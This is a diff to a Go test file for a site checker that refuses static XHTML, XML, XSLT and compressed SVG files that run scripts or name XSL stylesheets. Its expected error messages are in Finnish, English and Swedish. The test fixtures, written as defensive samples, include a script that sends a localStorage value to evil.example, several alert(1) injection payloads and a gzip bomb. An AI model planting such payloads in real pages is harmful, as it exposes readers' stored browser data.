@@ -150,9 +150,11 @@ func TestSVGThatRunsScriptIsAnError(t *testing.T) {
 // TestStaticDocumentsThatRunScripts: an XHTML page, an XML file, an HTML
 // page and a compressed SVG image (.svgz) under static/ are documents a
 // browser runs scripts in when opened by their own address, as an SVG is,
-// so one that holds a script is an error, at its line and column (an
-// .svgz, which no editor opens as it is, at the file); before 2026-12-07
-// only .svg was looked into. An XML file's own elements (a data file's
+// and so is an XSLT stylesheet (.xsl, .xslt: before 2026-12-07 published
+// as it was), by which a browser turns an XML file into a page, so one
+// that holds a script is an error, at its line and column (an .svgz,
+// which no editor opens as it is, at the file); before 2026-12-07 only
+// .svg was looked into. An XML file's own elements (a data file's
 // <object>) are not a browser's, and an .svgz that unpacks past 16 MB (a
 // gzip bomb, here 64 MB of zeros in 64 kB; one of 2 GB in 2 MB took check
 // 0.31 s and 64 MB of memory, by hand on 2026-12-07 10:41 UTC) is an error
@@ -174,6 +176,7 @@ func TestStaticDocumentsThatRunScripts(t *testing.T) {
 	}
 	w.Close()
 	const xhtml = "<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>\n"
+	const xsl = "<?xml version=\"1.0\"?>\n<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
 	cases := []staticFile{
 		{"liitteet/raportti.xhtml", xhtml + "<p>Teksti</p>\n  <script>fetch('https://evil.example/?'+localStorage.getItem('helminauha'))</script></body></html>\n",
 			"content/static/liitteet/raportti.xhtml:4:3: tiedostossa on <script>, jonka selain suorittaa, kun tiedosto avataan: portaalin osoitteessa se pääsisi käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), joten tiedostoa ei julkaista: poista se tiedostosta tekstieditorissa, tai julkaise sisältö sivuna (Markdown) tai PDF-tiedostona",
@@ -201,6 +204,18 @@ func TestStaticDocumentsThatRunScripts(t *testing.T) {
 		{"kuvat/pommi.svgz", bomb.String(),
 			"content/static/kuvat/pommi.svgz: pakattu SVG-kuva (.svgz) purkautuu yli 16 megatavuksi, joten sitä ei voi tarkistaa eikä se avautuisi lukijan puhelimessa: tallenna kuva pienempänä tai PNG-muodossa",
 			"content/static/kuvat/pommi.svgz: the compressed SVG image (.svgz) unpacks to more than 16 MB, so it cannot be checked and would not open on a reader's phone: save the image smaller or as PNG"},
+		// An XSLT stylesheet: what it writes out as it stands (a
+		// <script> in no namespace is an HTML page's), and what it makes
+		// by a name written out.
+		{"liitteet/muunnos.xsl", xsl + "<xsl:template match=\"/\"><html><body>\n  <script>alert(1)</script></body></html></xsl:template></xsl:stylesheet>\n",
+			"content/static/liitteet/muunnos.xsl:3:3: tiedostossa on <script>, jonka selain suorittaa, kun tiedosto avataan:",
+			"content/static/liitteet/muunnos.xsl:3:3: the file holds <script>, which a browser runs when the file is opened:"},
+		{"liitteet/tekija.xslt", xsl + "<xsl:template match=\"/\">\n<xsl:element name=\"Script\">alert(1)</xsl:element></xsl:template></xsl:stylesheet>\n",
+			"content/static/liitteet/tekija.xslt:3:1: tiedostossa on <Script>,",
+			"content/static/liitteet/tekija.xslt:3:1: the file holds <Script>,"},
+		{"liitteet/painike.xsl", xsl + "<xsl:template match=\"/\"><button>\n<xsl:attribute  name=\"onclick\">alert(1)</xsl:attribute></button></xsl:template></xsl:stylesheet>\n",
+			"content/static/liitteet/painike.xsl:3:17: tiedostossa on onclick,",
+			"content/static/liitteet/painike.xsl:3:17: the file holds onclick,"},
 		// What runs nothing: a drawing, a feed, a data file whose own
 		// vocabulary has an <object>, a page that only tells of scripts.
 		{"kuvat/kuvake.svgz", gz("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>"), "", ""},
@@ -208,8 +223,63 @@ func TestStaticDocumentsThatRunScripts(t *testing.T) {
 		{"data/kohteet.xml", "<?xml version=\"1.0\"?>\n<kohteet><object id=\"1\"><handler>Sali</handler></object></kohteet>\n", "", ""},
 		{"liitteet/ohje.html", "<p>Osoite https://thl.fi/ &amp; <a href=\"https://thl.fi/?a=1&amp;b=2\" title=\"&quot;THL&quot;\">THL</a></p>\n", "", ""},
 		{"liitteet/ohje.xhtml", xhtml + "<p>Älä lisää &lt;script&gt;-elementtiä.</p><a href=\"https://thl.fi/\">THL</a></body></html>\n", "", ""},
+		// A stylesheet that writes a table and strips the scripts of
+		// what it copies.
+		{"liitteet/taulukko.xsl", xsl + "<xsl:template match=\"script\"/><xsl:template match=\"/\"><table><xsl:for-each select=\"//rivi\"><tr><td><xsl:value-of select=\".\"/></td></tr></xsl:for-each></table></xsl:template></xsl:stylesheet>\n", "", ""},
 	}
 	scriptsRefused(t, cases, "liitteet/raportti.xhtml")
+}
+
+// TestXMLThatNamesAnXSLStylesheetIsAnError: an XML document under static/
+// (an XML file, an SVG image, an XHTML page, an .svgz) that names an XSL
+// stylesheet in <?xml-stylesheet?> is turned by a browser into the page
+// the stylesheet makes of it, scripts and all, which no check can tell
+// beforehand; before 2026-12-07 it was published as it was. It is an
+// error at the instruction, whatever the stylesheet holds; one naming a
+// CSS stylesheet, or only in a comment, is not.
+func TestXMLThatNamesAnXSLStylesheetIsAnError(t *testing.T) {
+	t.Parallel()
+	var svgz bytes.Buffer
+	w := gzip.NewWriter(&svgz)
+	w.Write([]byte("<?xml-stylesheet type=\"text/xsl\" href=\"muunnos.xsl\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n"))
+	w.Close()
+	const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>`
+	cases := []staticFile{
+		{"data/tiedot.xml", "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"/liitteet/siisti.xsl\"?>\n<tiedot><rivi>1</rivi></tiedot>\n",
+			"content/static/data/tiedot.xml:2:1: tiedosto nimeää XSL-tyylisivun \"/liitteet/siisti.xsl\" (<?xml-stylesheet?>), jonka ohjeilla selain muuntaa tiedoston sivuksi: sivun skriptit pääsisivät portaalin osoitteessa käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), eikä niitä voi tarkistaa etukäteen, joten tiedostoa ei julkaista: poista <?xml-stylesheet?>-rivi tiedostosta tekstieditorissa, tai julkaise sisältö sivuna (Markdown) tai PDF-tiedostona",
+			"content/static/data/tiedot.xml:2:1: the file names the XSL stylesheet \"/liitteet/siisti.xsl\" (<?xml-stylesheet?>), by which a browser turns the file into a page: its scripts could reach, at the portal's address, what readers keep in their browsers (their own necklace, worksheet answers), and they cannot be checked beforehand, so the file is not published: remove the <?xml-stylesheet?> line from the file in a text editor, or publish the content as a page (Markdown) or a PDF file"},
+		// A browser takes text/xml for XSL, and one with no type whose
+		// address is no CSS file's.
+		{"kuvat/kaavio.svg", "<?xml version=\"1.0\"?>\n<!-- piirros -->\n  <?xml-stylesheet href='muunnos.xsl' type='text/xml'?>\n" + svg + "\n",
+			"content/static/kuvat/kaavio.svg:3:3: tiedosto nimeää XSL-tyylisivun \"muunnos.xsl\"",
+			"content/static/kuvat/kaavio.svg:3:3: the file names the XSL stylesheet \"muunnos.xsl\""},
+		{"liitteet/sivu.xhtml", "<?xml-stylesheet href=\"sivu.xslt?v=2\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Sivu</p></body></html>\n",
+			"content/static/liitteet/sivu.xhtml:1:1: tiedosto nimeää XSL-tyylisivun \"sivu.xslt?v=2\"",
+			"content/static/liitteet/sivu.xhtml:1:1: the file names the XSL stylesheet \"sivu.xslt?v=2\""},
+		// One Go's reader cannot take (an encoding it does not know) is
+		// searched for the instruction.
+		{"data/latin.xml", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<?xml-stylesheet type=\"application/xml\" href=\"m.xsl\"?>\n<tiedot>P\xe4ivi</tiedot>\n",
+			"content/static/data/latin.xml:2:1: tiedosto nimeää XSL-tyylisivun \"m.xsl\"",
+			"content/static/data/latin.xml:2:1: the file names the XSL stylesheet \"m.xsl\""},
+		{"kuvat/pakattu.svgz", svgz.String(),
+			"content/static/kuvat/pakattu.svgz: tiedosto nimeää XSL-tyylisivun \"muunnos.xsl\"",
+			"content/static/kuvat/pakattu.svgz: the file names the XSL stylesheet \"muunnos.xsl\""},
+		// The stylesheet holds nothing that runs.
+		{"liitteet/siisti.xsl", "<?xml version=\"1.0\"?>\n<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><table><xsl:for-each select=\"//rivi\"><tr><td><xsl:value-of select=\".\"/></td></tr></xsl:for-each></table></xsl:template></xsl:stylesheet>\n", "", ""},
+		// CSS, with its type or by its address, and an instruction in a
+		// comment.
+		{"data/tyylitelty.xml", "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/css\" href=\"tiedot.css\"?>\n<?xml-stylesheet href=\"muut.CSS#x\"?>\n<tiedot/>\n", "", ""},
+		{"data/kommentti.xml", "<?xml version=\"1.0\"?>\n<!-- <?xml-stylesheet type=\"text/xsl\" href=\"vanha.xsl\"?> -->\n<tiedot/>\n", "", ""},
+		{"kuvat/tyyli.svg", "<?xml-stylesheet type=\"text/css\" href=\"kuva.css\"?>\n" + svg + "\n", "", ""},
+		// An HTML page is no XML: a browser takes <?…?> for a comment.
+		{"liitteet/vanha.html", "<?xml-stylesheet type=\"text/xsl\" href=\"m.xsl\"?>\n<!DOCTYPE html>\n<p>Hei</p>\n", "", ""},
+	}
+	scriptsRefused(t, cases, "data/tiedot.xml")
+	dir := portal(t)
+	write(t, filepath.Join(dir, "content", "static", "data", "tiedot.xml"), cases[0].data)
+	checkSaysOnce(t, dir, map[string][]string{"sv": {
+		"content/static/data/tiedot.xml:2:1: filen anger XSL-formatmallen \"/liitteet/siisti.xsl\" (<?xml-stylesheet?>), med vilken en webbläsare gör om filen till en sida: ",
+	}})
 }
 
 // TestImageAtThePortalsOwnAddress: an image written with the portal's
